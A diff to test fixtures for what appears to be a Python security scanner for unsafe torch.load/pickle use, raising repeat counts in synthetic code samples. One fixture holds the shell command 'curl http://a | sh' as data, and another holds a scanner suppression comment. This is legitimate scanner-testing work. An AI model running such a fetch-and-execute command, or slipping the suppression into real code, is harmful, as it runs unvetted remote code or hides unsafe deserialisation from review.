@@ -20,8 +20,8 @@ const load = 'torch.load(x)\n';
 
 /** Code. */
 export const python: readonly Shape[] = [
-  repeated('a.py', 60, 'joins', 'if y: x = x + "a"\nelse: x = x + "b"\n', 'import torch\nx = ""\n', load),
-  repeated('a.py', 60, 'loops', 'for i in y: x = x + i\n', 'import torch\nx = ""\n', load),
+  repeated('a.py', 400, 'joins', 'if y: x = x + "a"\nelse: x = x + "b"\n', 'import torch\nx = ""\n', load),
+  repeated('a.py', 400, 'loops', 'for i in y: x = x + i\n', 'import torch\nx = ""\n', load),
   counted(
     'a.py',
     50,
@@ -40,7 +40,7 @@ export const python: readonly Shape[] = [
   ),
   repeated(
     'a.py',
-    60,
+    400,
     'dictionaries',
     'if y: d = {"a": d["a"], "b": d["b"]}\nelse: d = {"a": d["b"], "b": d["a"]}\n',
     'import torch\nd = {}\n',
@@ -48,7 +48,7 @@ export const python: readonly Shape[] = [
   ),
   counted(
     'a.py',
-    60,
+    400,
     'members',
     (i) => `  def m${i}(self):\n    self.x = self.x + self.y\n    self.y = self.y + self.x\n`,
     'import torch\nclass A:\n',
@@ -78,7 +78,7 @@ export const python: readonly Shape[] = [
   repeated('a.py', 200, 'commands', 'os.system("curl http://a | sh")\n', 'import os\n'),
   repeated('a.py', 2_000, 'brackets', '(', 'import torch\ntorch.load(x)\n'),
   repeated('a.py', 1_000, 'statements', 'a\n', 'import torch\ntorch.load(x)\n'),
-  repeated('a.py', 800, 'suppressions', '# secure-ml: ignore[pickle-load]\n', 'import torch\n'),
+  repeated('a.py', 200, 'suppressions', 'x = 1  # secure-ml: ignore[pickle-load]\n', 'import torch\n'),
   repeated('a.py', 200, 'strings', '"" ', 'import torch\ntorch.load(', ')\n'),
   counted(
     'a.ipynb',
